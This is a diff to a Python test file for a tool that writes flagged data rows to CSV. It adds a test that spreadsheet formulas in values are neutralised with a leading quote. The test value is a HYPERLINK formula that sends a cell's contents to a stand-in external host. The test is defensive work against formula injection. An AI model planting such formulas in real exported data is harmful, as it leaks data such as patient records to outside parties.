@@ -129,6 +129,15 @@ def test_a_rule_for_repeated_ids_hides_no_other_mistake(
     assert len(read(staged, fixed, batch_rows=batch_rows, duplicates=duplicates).problems) == 1
 
 
+def test_no_value_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    """Anybody may have written a value, such as a patient into a form."""
+    offenders = Offenders(tmp_path / "rows.csv")
+    value = '=HYPERLINK("https://e.example/?"&A2)'
+    offenders.add("no category", "@smoker", pl.Series([7]), pl.Series([value]))
+    offenders.finish()
+    assert lines(tmp_path / "rows.csv")[0][:3] == ["7", "'@smoker", f"'{value}"]
+
+
 def test_ids_of_several_columns_and_odd_characters(staged: LocalStudy, tmp_path: Path) -> None:
     """Each column has its own mistakes, and a repeated id has all its parts."""
     frame = pl.DataFrame(
